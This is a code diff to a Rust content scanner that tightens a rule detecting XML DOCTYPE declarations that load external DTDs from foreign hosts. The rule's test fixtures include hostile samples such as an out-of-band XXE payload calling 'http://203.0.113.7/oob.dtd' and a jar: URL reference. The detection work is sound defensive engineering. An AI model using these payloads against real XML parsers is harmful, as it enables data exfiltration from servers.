@@ -40,18 +40,20 @@ const SUBSETS_MAX: usize = 16;
 const PUBLISHERS: &[&str] = &[
     "apache.org",
     "apple.com",
+    "cxml.org",
     "docbook.org",
     "eclipse.org",
+    "editeur.org",
     "hibernate.org",
     "hibernate.sourceforge.net",
     "java.sun.com",
     "jboss.org",
-    "localhost",
     "mybatis.org",
     "oasis-open.org",
     "openoffice.org",
     "oracle.com",
     "springframework.org",
+    "testng.org",
     "w3.org",
 ];
 
@@ -62,25 +64,29 @@ fn run(subject: &Subject<'_>, evidence: &mut Evidence<'_>) {
     for at in starts.take(SUBSETS_MAX) {
         let rest = bytes.get(at + 9..).unwrap_or_default();
         let rest = rest.get(..SUBSET_BYTES_MAX).unwrap_or(rest);
-        if address(rest).is_some_and(is_foreign) {
+        if foreign_address(rest).is_some() {
             evidence.found(&FOREIGN_SUBSET, at, 9);
             return;
         }
     }
 }
 
-/// The system identifier behind the root's name, with or without a public one before it.
-fn address(rest: &[u8]) -> Option<&[u8]> {
+/// The system identifier behind the root's name, with or without a public one before it, if it is foreign.
+fn foreign_address(rest: &[u8]) -> Option<&[u8]> {
     let rest = rest.trim_ascii_start();
     let name = rest.iter().position(u8::is_ascii_whitespace)?;
     let rest = rest.get(name..)?.trim_ascii_start();
     let (word, rest) = rest.split_at_checked(6)?;
     let mut strings = quoted(rest.trim_ascii_start());
-    match word {
-        word if word.eq_ignore_ascii_case(b"system") => strings.next(),
-        word if word.eq_ignore_ascii_case(b"public") => strings.nth(1),
-        _ => None,
+    if word.eq_ignore_ascii_case(b"system") {
+        return strings.next().filter(|address| is_foreign(address));
     }
+    // A public identifier names what publishers of standards give out, from hosts with names.
+    if !word.eq_ignore_ascii_case(b"public") {
+        return None;
+    }
+    let standard = strings.next()?.starts_with(b"-//");
+    strings.next().filter(|address| is_foreign(address) && !(standard && is_named(address)))
 }
 
 /// The strings at the beginning of `rest`.
@@ -103,19 +109,35 @@ fn is_foreign(address: &[u8]) -> bool {
     if known(&["jar", "netdoc", "gopher", "php", "expect", "ftp", "ldap", "dict"]) {
         return true;
     }
-    if !known(&["http", "https", "file"]) {
+    let host = host(address);
+    // Property lists name the folder of their document types so.
+    if known(&["file"]) {
+        return !host.eq_ignore_ascii_case(b"localhost");
+    }
+    if !known(&["http", "https"]) {
         return false;
     }
-    let rest = scheme.and_then(|scheme| address.get(scheme.len() + 1..)).unwrap_or_default();
-    let host = rest.strip_prefix(b"//").unwrap_or_default();
-    let end = host.iter().position(|byte| matches!(byte, b'/' | b'?' | b'#')).unwrap_or(host.len());
-    let host = host.get(..end).unwrap_or_default();
     !PUBLISHERS.iter().any(|publisher| {
         host.len().checked_sub(publisher.len()).is_some_and(|start| {
             let ends = host.get(start..).is_some_and(|end| end.eq_ignore_ascii_case(publisher.as_bytes()));
             ends && (start == 0 || host.get(start - 1) == Some(&b'.'))
         })
     })
+}
+
+/// The authority of an address.
+fn host(address: &[u8]) -> &[u8] {
+    let start = memchr::memmem::find(address, b"//").map_or(address.len(), |at| at + 2);
+    let rest = address.get(start..).unwrap_or_default();
+    let end = rest.iter().position(|byte| matches!(byte, b'/' | b'?' | b'#')).unwrap_or(rest.len());
+    rest.get(..end).unwrap_or_default()
+}
+
+/// Returns `true` if the host of an address is a name without a port.
+fn is_named(address: &[u8]) -> bool {
+    let host = host(address.trim_ascii());
+    let last = host.rsplit(|byte| *byte == b'.').next().unwrap_or_default();
+    last.len() > 1 && last.len() < host.len() && last.iter().all(u8::is_ascii_alphabetic)
 }
 
 static YAML_OBJECT: Rule = Rule {
@@ -227,14 +249,17 @@ static FOREIGN_SUBSET: Rule = Rule {
         "<?xml version=\"1.0\"?><!DOCTYPE data SYSTEM \"http://203.0.113.7/oob.dtd\"><data>&send;</data>",
         "<!DOCTYPE a SYSTEM 'file:///srv/a.dtd'>",
         "<!doctype x public \"a\" \"https://h.example/x\">",
+        "<!DOCTYPE x PUBLIC \"-//A//DTD A//EN\" \"http://203.0.113.7/a.dtd\">",
         "<!DOCTYPE a SYSTEM \"jar:http://h.example/a.jar!/b\">",
         "<!DOCTYPE html SYSTEM \"http://www.w3.org.h.example/\">",
+        "<!DOCTYPE a SYSTEM \"http://localhost/a\">",
     ],
     benign: &[
         "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
         "<!DOCTYPE plist SYSTEM \"file://localhost/System/Library/DTDs/PropertyList.dtd\">",
         "<!DOCTYPE log4j:configuration SYSTEM \"log4j.dtd\">",
         "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
+        "<!DOCTYPE ncx PUBLIC \"-//NISO//DTD ncx 2005-1//EN\" \"http://www.daisy.org/z3986/2005/ncx-2005-1.dtd\">",
     ],
 };
 
